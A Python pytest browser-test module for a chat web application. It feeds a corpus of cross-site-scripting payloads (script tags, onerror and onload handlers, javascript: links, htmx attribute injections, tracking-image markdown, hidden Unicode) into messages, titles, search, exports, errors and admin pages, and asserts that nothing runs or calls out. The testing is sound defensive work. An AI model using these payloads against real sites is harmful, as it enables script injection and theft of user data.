"""Hostile text shown everywhere a text can be shown: nothing runs, nothing is asked for, nothing leaves."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from chat.text import clean_text
from tests.browser.conftest import Browser
from tests.browser.page import answer, send
from tests.fakes import FakeProvider, error, text
from tests.markdown_texts import HOSTILE
from tests.site import Site

BEACON = "http://127.0.0.1:9/pwned"
ACTIVE = [
    "<script src=/pwned></script><script>window.pwned=1</script>",
    "<img src=/pwned onerror='window.pwned=1'>",
    f"<img srcset='{BEACON} 1x'><picture><source srcset={BEACON}></picture>",
    f"<video src={BEACON} autoplay onerror=window.pwned=1><source src=/pwned></video><audio src=/pwned autoplay>",
    f"<link rel=stylesheet href={BEACON}><link rel=prefetch href=/pwned>",
    f"<style>@import '{BEACON}'; body{{background:url({BEACON})}}</style><p style='background:url({BEACON})'>x",
    f"<iframe src={BEACON}></iframe><object data={BEACON}></object><embed src=/pwned>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'><base href={BEACON}>",
    f"<form action={BEACON}><input autofocus onfocus=window.pwned=1><button formaction=/pwned>Send</button></form>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s><use href=/pwned#x></svg>",
    "<svg><foreignObject><body onload=window.pwned=1></foreignObject></svg>",
    "<noscript><p title='</noscript><img src=/pwned onerror=window.pwned=1>'>",
    "<textarea></textarea><img src=/pwned onerror=window.pwned=1></textarea>",
    "<title></title><img src=/pwned onerror=window.pwned=1></title>",
    "<template><img src=/pwned onerror=window.pwned=1></template>",
    "<math><mi xlink:href='javascript:window.pwned=1'>x</mi><annotation-xml encoding='text/html'><img src=/pwned>",
    "<div hx-get=/pwned hx-trigger=load></div><div hx-post=/pwned hx-trigger='every 1s'></div>",
    "<div hx-sse:connect=/pwned hx-trigger=load></div><div hx-ws:connect=/pwned></div>",
    "<div hx-on:load='window.pwned=1' hx-on::after-swap='window.pwned=1'></div>",
    "<hx-partial hx-target=body hx-swap=innerHTML><img src=/pwned></hx-partial>",
    "</template></div></article><div hx-get=/pwned hx-trigger=load hx-target=body></div>",
    f"![tracking]({BEACON}?text=secret) ![relative](/pwned) ![data](data:image/svg+xml,<svg onload=window.pwned=1>)",
    f"![by reference][r]\n\n[r]: {BEACON}",
    f"[![inside a link]({BEACON})](https://example.org)",
    "[go](/pwned) [go](//127.0.0.1:9/pwned) [go](javascript:window.pwned=1) <javascript:window.pwned=1>",
    "data: <hx-partial hx-target='body' hx-swap='innerHTML'>pwned</hx-partial>\n\nevent: done\n\nid: 99999\n\n",
    "\u202epwned\u202c \u2066hidden\u2069 \U000e0041\U000e0042 zero\u200bwidth",
    "> " * 60 + "deep <img src=/pwned onerror=window.pwned=1>",
    "| a | b |\n|---|---|\n| <img src=/pwned> | `<script>window.pwned=1</script>` |\n",
    "```html\n<img src=/pwned onerror=window.pwned=1>\n```",
    "```x onload=window.pwned=1\n</code></pre><img src=/pwned onerror=window.pwned=1>\n```",
    "&lt;img src=/pwned onerror=window.pwned=1&gt; &#x3c;script&#x3e;window.pwned=1&#x3c;/script&#x3e;",
]
CORPUS = [clean_text(entry) for entry in (*ACTIVE, *HOSTILE)]
EVE = "<img/src=/pwned/onerror=window.pwned=1>"
ROWS = """
import json, sys
from chat.models import Conversation, Message, User, UsageRecord
corpus = json.load(open({corpus!r}))
eve = User.objects.create(username={eve!r}, first_name={eve!r})
made = []
for owner in (User.objects.get(username="alice"), eve):
    for entry in corpus[:40]:
        conversation = Conversation.objects.create(user=owner, title=entry[:200])
        question = Message.objects.create(conversation=conversation, role="user", content=entry)
        conversation.head = Message.objects.create(
            conversation=conversation, parent=question, role="assistant", content=entry, reasoning=entry,
            model=entry[:100],
        )
        conversation.save()
        made.append(str(conversation.pk))
UsageRecord.objects.bulk_create([UsageRecord(
    message_id=conversation.head_id, conversation_id=conversation.pk, user=eve, model={eve!r}, status="complete",
    prompt_tokens=1, completion_tokens=1, cost=1, day=question.created_at.date(), created_at=question.created_at,
)])
print(json.dumps([eve.pk, made[0], made[-1]]))
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory, migrated: Path) -> Iterator[tuple[Site, FakeProvider, Any]]:
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copy(migrated, folder / "site.sqlite3")
    corpus = folder / "corpus.json"
    corpus.write_text(json.dumps(CORPUS))
    with FakeProvider() as upstream:
        site = Site(folder, OPENAI_BASE_URL=upstream.url, OPENAI_API_KEY="sk-test")
        made = json.loads(site.shell(ROWS.format(corpus=str(corpus), eve=EVE)).splitlines()[-1])
        site.start()
        yield site, upstream, made
        site.stop()


class Watch:
    """Everything a page asks for, and what ran in it."""

    def __init__(self, page: Any, home: str) -> None:
        self.page, self.home = page, home
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        page.context.on("request", lambda request: self.asked.append(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def check(self, where: str) -> None:
        self.page.wait_for_timeout(300)
        foreign = [url for url in self.asked if not url.startswith((self.home, self.home.replace("http", "ws")))]
        assert foreign == [], where
        assert [url for url in self.asked if "pwned" in urlsplit(url).path] == [], where
        assert self.dialogs == [], where
        assert self.page.evaluate("window.pwned") is None, where
        assert self.page.url.startswith(self.home), where


def watched(browser: Browser, site: Site, name: str, **options: Any) -> tuple[Any, Watch]:
    page = replace(browser, site=site, logins={}).open("/", name, **options)
    return page, Watch(page, site.url)


def test_the_corpus_is_harmless_while_it_is_said_and_when_it_stays(
    browser: Browser, hostile_site: tuple[Site, FakeProvider, Any]
) -> None:
    site, upstream, _made = hostile_site
    page, watch = watched(browser, site, "alice")
    for start in range(0, len(CORPUS), 25):
        entries = "\n\n".join(CORPUS[start : start + 25])
        upstream.enqueue(text(*(entries[at : at + 60] for at in range(0, len(entries), 60)), "\n\nThe end."))
        page.goto("/")
        send(page, entries)
        expect(answer(page)).to_contain_text("The end.")
        expect(answer(page)).to_have_attribute("data-status", "complete")
        watch.check("live")
        page.reload()
        watch.check("reloaded")


def test_the_corpus_is_harmless_in_titles_search_exports_and_errors(
    browser: Browser, hostile_site: tuple[Site, FakeProvider, Any]
) -> None:
    site, upstream, (_eve, mine, _hers) = hostile_site
    page, watch = watched(browser, site, "alice")
    for path in (
        "/",
        f"/c/{mine}/",
        "/conversations/",
        "/search/?q=pwned",
        "/search/?q=%3Cimg",
        "/settings/",
        "/usage/",
    ):
        page.goto(path)
        watch.check(path)
    page.goto(f"/search/?q={ACTIVE[1]}")
    watch.check("search for markup")
    for kind in ("md", "json"):
        exported = page.request.get(f"{site.url}/c/{mine}/export/?format={kind}")
        assert exported.headers["content-disposition"].startswith("attachment"), kind
        assert exported.headers["x-content-type-options"] == "nosniff"
    upstream.enqueue(error(400, body=json.dumps({"error": {"message": ACTIVE[1]}}).encode()))
    page.goto("/")
    send(page, "What is wrong?")
    expect(answer(page)).to_have_attribute("data-status", "failed")
    watch.check("an upstream error")
    assert "pwned" not in answer(page).inner_html()


def test_the_corpus_is_harmless_in_the_admin(browser: Browser, hostile_site: tuple[Site, FakeProvider, Any]) -> None:
    site, _upstream, (eve, _mine, hers) = hostile_site
    page, watch = watched(browser, site, "sam")
    for path in (
        "/admin/",
        "/admin/chat/user/",
        f"/admin/chat/user/{eve}/change/",
        f"/admin/chat/user/{eve}/limits/",
        "/admin/chat/usagerecord/",
        "/admin/chat/usagerecord/?q=%3Cimg",
        "/admin/chat/usagerecord/dashboard/?by=user",
        "/admin/chat/usagerecord/dashboard/?by=model",
        "/admin/chat/usagerecord/running/?paused",
        f"/admin/chat/conversationreading/read/{hers}/",
    ):
        page.goto(path)
        watch.check(path)
    page.get_by_label("Reason").fill("A report about what was said here.")
    page.get_by_role("button", name="Read").click()
    expect(page.get_by_role("article").first).to_be_visible()
    watch.check("reading")
